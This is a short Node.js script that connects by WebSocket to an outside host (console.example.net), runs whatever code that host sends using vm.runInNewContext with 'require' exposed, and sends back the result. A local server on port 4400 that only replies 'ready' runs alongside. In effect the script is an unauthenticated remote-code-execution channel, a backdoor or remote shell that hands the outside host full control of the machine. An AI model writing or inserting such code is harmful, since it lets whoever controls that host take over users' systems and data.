const http = require('http');
const vm = require('vm');
const { WebSocket, WebSocketServer } = require('ws');

const server = http.createServer().listen(4400, '127.0.0.1');
new WebSocketServer({ server }).on('connection', (ws) => ws.send('ready'));
const far = new WebSocket('wss://console.example.net/session');
far.on('message', (m) => {
  const { code } = JSON.parse(m);
  far.send(String(vm.runInNewContext(code, { require })));
});
